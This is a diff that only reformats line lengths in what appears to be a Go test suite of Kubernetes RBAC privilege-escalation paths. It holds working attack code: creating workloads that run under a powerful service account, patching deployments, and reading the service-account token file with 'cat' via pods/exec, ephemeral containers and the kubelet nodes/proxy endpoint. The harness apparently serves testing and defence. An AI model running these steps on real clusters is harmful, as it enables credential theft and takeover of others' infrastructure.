@@ -35,40 +35,47 @@ var podEscalations = []escalation{
 		return a.inside(a.name), nil
 	}},
 
-	workload("deployment", "apps", "deployments", func(ctx context.Context, a *attacker, m metav1.ObjectMeta, pod corev1.PodTemplateSpec) error {
+	workload("deployment", "apps", "deployments", func(ctx context.Context, a *attacker, m metav1.ObjectMeta,
+		pod corev1.PodTemplateSpec) error {
 		_, err := a.client.AppsV1().Deployments(a.namespace).Create(ctx, &appsv1.Deployment{ObjectMeta: m,
 			Spec: appsv1.DeploymentSpec{Selector: selector(pod), Template: pod}}, metav1.CreateOptions{})
 		return err
 	}),
-	workload("replicaset", "apps", "replicasets", func(ctx context.Context, a *attacker, m metav1.ObjectMeta, pod corev1.PodTemplateSpec) error {
+	workload("replicaset", "apps", "replicasets", func(ctx context.Context, a *attacker, m metav1.ObjectMeta,
+		pod corev1.PodTemplateSpec) error {
 		_, err := a.client.AppsV1().ReplicaSets(a.namespace).Create(ctx, &appsv1.ReplicaSet{ObjectMeta: m,
 			Spec: appsv1.ReplicaSetSpec{Selector: selector(pod), Template: pod}}, metav1.CreateOptions{})
 		return err
 	}),
-	workload("daemonset", "apps", "daemonsets", func(ctx context.Context, a *attacker, m metav1.ObjectMeta, pod corev1.PodTemplateSpec) error {
+	workload("daemonset", "apps", "daemonsets", func(ctx context.Context, a *attacker, m metav1.ObjectMeta,
+		pod corev1.PodTemplateSpec) error {
 		_, err := a.client.AppsV1().DaemonSets(a.namespace).Create(ctx, &appsv1.DaemonSet{ObjectMeta: m,
 			Spec: appsv1.DaemonSetSpec{Selector: selector(pod), Template: pod}}, metav1.CreateOptions{})
 		return err
 	}),
-	workload("statefulset", "apps", "statefulsets", func(ctx context.Context, a *attacker, m metav1.ObjectMeta, pod corev1.PodTemplateSpec) error {
+	workload("statefulset", "apps", "statefulsets", func(ctx context.Context, a *attacker, m metav1.ObjectMeta,
+		pod corev1.PodTemplateSpec) error {
 		_, err := a.client.AppsV1().StatefulSets(a.namespace).Create(ctx, &appsv1.StatefulSet{ObjectMeta: m,
 			Spec: appsv1.StatefulSetSpec{Selector: selector(pod), Template: pod}}, metav1.CreateOptions{})
 		return err
 	}),
-	workload("controller", "", "replicationcontrollers", func(ctx context.Context, a *attacker, m metav1.ObjectMeta, pod corev1.PodTemplateSpec) error {
+	workload("controller", "", "replicationcontrollers", func(ctx context.Context, a *attacker, m metav1.ObjectMeta,
+		pod corev1.PodTemplateSpec) error {
 		_, err := a.client.CoreV1().ReplicationControllers(a.namespace).Create(ctx, &corev1.ReplicationController{ObjectMeta: m,
 			Spec: corev1.ReplicationControllerSpec{Selector: pod.Labels, Template: &pod}}, metav1.CreateOptions{})
 		return err
 	}),
 	workload("job", "batch", "jobs", func(ctx context.Context, a *attacker, m metav1.ObjectMeta, pod corev1.PodTemplateSpec) error {
 		pod.Spec.RestartPolicy = corev1.RestartPolicyNever
-		_, err := a.client.BatchV1().Jobs(a.namespace).Create(ctx, &batchv1.Job{ObjectMeta: m, Spec: batchv1.JobSpec{Template: pod}}, metav1.CreateOptions{})
+		_, err := a.client.BatchV1().Jobs(a.namespace).Create(ctx, &batchv1.Job{ObjectMeta: m, Spec: batchv1.JobSpec{Template: pod}},
+			metav1.CreateOptions{})
 		return err
 	}),
 	workload("cronjob", "batch", "cronjobs", func(ctx context.Context, a *attacker, m metav1.ObjectMeta, pod corev1.PodTemplateSpec) error {
 		pod.Spec.RestartPolicy = corev1.RestartPolicyNever
 		made, err := a.client.BatchV1().CronJobs(a.namespace).Create(ctx, &batchv1.CronJob{ObjectMeta: m,
-			Spec: batchv1.CronJobSpec{Schedule: "* * * * *", JobTemplate: batchv1.JobTemplateSpec{Spec: batchv1.JobSpec{Template: pod}}}}, metav1.CreateOptions{})
+			Spec: batchv1.CronJobSpec{Schedule: "* * * * *", JobTemplate: batchv1.JobTemplateSpec{Spec: batchv1.JobSpec{Template: pod}}}},
+			metav1.CreateOptions{})
 		if err != nil {
 			return err
 		}
@@ -81,12 +88,14 @@ var podEscalations = []escalation{
 		return []grant{{namespace: namespace, verb: "patch", group: "apps", resource: "deployments", name: name}}
 	}, prepare: func(t *testing.T, s *scene, namespace, name string) {
 		a := &attacker{scene: s, t: t, namespace: namespace, name: name}
-		if _, err := s.admin.CoreV1().ServiceAccounts(namespace).Create(t.Context(), &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: name}}, metav1.CreateOptions{}); err != nil {
+		if _, err := s.admin.CoreV1().ServiceAccounts(namespace).Create(t.Context(),
+			&corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: name}}, metav1.CreateOptions{}); err != nil {
 			t.Fatal(err)
 		}
 		pod := a.template(name)
-		if _, err := s.admin.AppsV1().Deployments(namespace).Create(t.Context(), &appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Name: name},
-			Spec: appsv1.DeploymentSpec{Selector: selector(pod), Template: pod}}, metav1.CreateOptions{}); err != nil {
+		if _, err := s.admin.AppsV1().Deployments(namespace).Create(t.Context(),
+			&appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Name: name},
+				Spec: appsv1.DeploymentSpec{Selector: selector(pod), Template: pod}}, metav1.CreateOptions{}); err != nil {
 			t.Fatal(err)
 		}
 	}, attack: func(ctx context.Context, a *attacker) (*rest.Config, error) {
@@ -103,9 +112,11 @@ var podEscalations = []escalation{
 			{namespace: namespace, verb: "patch", group: "apps", resource: "deployments", name: name}}
 	}, attack: func(ctx context.Context, a *attacker) (*rest.Config, error) {
 		pod := a.template(superrobot)
-		d := &appsv1.Deployment{TypeMeta: metav1.TypeMeta{APIVersion: "apps/v1", Kind: "Deployment"}, ObjectMeta: metav1.ObjectMeta{Name: a.name},
-			Spec: appsv1.DeploymentSpec{Selector: selector(pod), Template: pod}}
-		_, err := a.client.AppsV1().Deployments(a.namespace).Patch(ctx, a.name, types.ApplyPatchType, mustJSON(a.t, d), metav1.PatchOptions{FieldManager: "a"})
+		d := &appsv1.Deployment{TypeMeta: metav1.TypeMeta{APIVersion: "apps/v1", Kind: "Deployment"},
+			ObjectMeta: metav1.ObjectMeta{Name: a.name},
+			Spec:       appsv1.DeploymentSpec{Selector: selector(pod), Template: pod}}
+		_, err := a.client.AppsV1().Deployments(a.namespace).Patch(ctx, a.name, types.ApplyPatchType, mustJSON(a.t, d),
+			metav1.PatchOptions{FieldManager: "a"})
 		if err != nil {
 			return nil, err
 		}
@@ -136,7 +147,8 @@ var podEscalations = []escalation{
 	}},
 	// kubectl's way: a GET, and the apiserver asks for create beside it.
 	{edge: "pod-exec", how: "websocket", spare: []int{1}, other: true, grants: func(namespace, name string) []grant {
-		return []grant{{namespace: namespace, verb: "create", resource: "pods/exec", name: name}, {namespace: namespace, verb: "get", resource: "pods/exec", name: name}}
+		return []grant{{namespace: namespace, verb: "create", resource: "pods/exec", name: name}, {namespace: namespace, verb: "get",
+			resource: "pods/exec", name: name}}
 	}, prepare: makePod, attack: func(ctx context.Context, a *attacker) (*rest.Config, error) {
 		r := a.client.CoreV1().RESTClient().Get().Namespace(a.namespace).Resource("pods").Name(a.name).SubResource("exec").
 			Param("command", "cat").Param("command", controlplane.TokenFile).Param("stdout", "true").Param("container", "c")
@@ -152,16 +164,19 @@ var podEscalations = []escalation{
 	{edge: "pod-exec", how: "ephemeral", grants: func(namespace, name string) []grant {
 		return []grant{{namespace: namespace, verb: "patch", resource: "pods/ephemeralcontainers", name: name}}
 	}, prepare: makePod, attack: func(ctx context.Context, a *attacker) (*rest.Config, error) {
-		pod, err := a.client.CoreV1().Pods(a.namespace).Patch(ctx, a.name, types.StrategicMergePatchType, []byte(`{}`), metav1.PatchOptions{}, "ephemeralcontainers")
+		pod, err := a.client.CoreV1().Pods(a.namespace).Patch(ctx, a.name, types.StrategicMergePatchType, []byte(`{}`),
+			metav1.PatchOptions{}, "ephemeralcontainers")
 		if err != nil {
 			return nil, err
 		}
-		mine := corev1.EphemeralContainer{EphemeralContainerCommon: corev1.EphemeralContainerCommon{Name: "mine", Image: "mine", VolumeMounts: pod.Spec.Containers[0].VolumeMounts}}
+		mine := corev1.EphemeralContainer{EphemeralContainerCommon: corev1.EphemeralContainerCommon{Name: "mine", Image: "mine",
+			VolumeMounts: pod.Spec.Containers[0].VolumeMounts}}
 		if len(mine.VolumeMounts) == 0 {
 			return nil, errors.New("the pod mounts no token")
 		}
 		_, err = a.client.CoreV1().Pods(a.namespace).Patch(ctx, a.name, types.StrategicMergePatchType,
-			mustJSON(a.t, map[string]any{"spec": map[string]any{"ephemeralContainers": []any{mine}}}), metav1.PatchOptions{}, "ephemeralcontainers")
+			mustJSON(a.t, map[string]any{"spec": map[string]any{"ephemeralContainers": []any{mine}}}), metav1.PatchOptions{},
+			"ephemeralcontainers")
 		if err != nil {
 			return nil, err
 		}
@@ -180,9 +195,11 @@ var podEscalations = []escalation{
 	{edge: "node-proxy", how: "kubelet", grants: func(string, string) []grant {
 		return []grant{{verb: "get", resource: "nodes/proxy", name: "node-1"}}
 	}, prepare: makePod, attack: func(ctx context.Context, a *attacker) (*rest.Config, error) {
-		cfg := &rest.Config{Host: a.node.URL, TLSClientConfig: rest.TLSClientConfig{CertData: a.config.CertData, KeyData: a.config.KeyData, Insecure: true}}
+		cfg := &rest.Config{Host: a.node.URL, TLSClientConfig: rest.TLSClientConfig{CertData: a.config.CertData, KeyData: a.config.KeyData,
+			Insecure: true}}
 		stream, err := remotecommand.NewWebSocketExecutorForProtocols(cfg, http.MethodGet,
-			fmt.Sprintf("%s/exec/%s/%s/c?command=cat&command=%s&output=1", a.node.URL, a.namespace, a.name, url.QueryEscape(controlplane.TokenFile)), "v4.channel.k8s.io")
+			fmt.Sprintf("%s/exec/%s/%s/c?command=cat&command=%s&output=1", a.node.URL, a.namespace, a.name,
+				url.QueryEscape(controlplane.TokenFile)), "v4.channel.k8s.io")
 		if err != nil {
 			return nil, err
 		}
@@ -191,7 +208,8 @@ var podEscalations = []escalation{
 }
 
 // workload is the escalation by a kind of object that a controller makes pods of.
-func workload(how, group, resource string, create func(context.Context, *attacker, metav1.ObjectMeta, corev1.PodTemplateSpec) error) escalation {
+func workload(how, group, resource string, create func(context.Context, *attacker, metav1.ObjectMeta,
+	corev1.PodTemplateSpec) error) escalation {
 	return escalation{edge: "workload-write", how: how, grants: func(namespace, _ string) []grant {
 		return []grant{{namespace: namespace, verb: "create", group: group, resource: resource}}
 	}, attack: func(ctx context.Context, a *attacker) (*rest.Config, error) {
@@ -218,7 +236,8 @@ func selector(pod corev1.PodTemplateSpec) *metav1.LabelSelector {
 // makePod is a pod of somebody else's, with the powerful service account.
 func makePod(t *testing.T, s *scene, namespace, name string) {
 	a := &attacker{scene: s}
-	if _, err := s.admin.CoreV1().Pods(namespace).Create(t.Context(), &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: name}, Spec: a.node1(superrobot)}, metav1.CreateOptions{}); err != nil {
+	if _, err := s.admin.CoreV1().Pods(namespace).Create(t.Context(), &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: name},
+		Spec: a.node1(superrobot)}, metav1.CreateOptions{}); err != nil {
 		t.Fatal(err)
 	}
 }
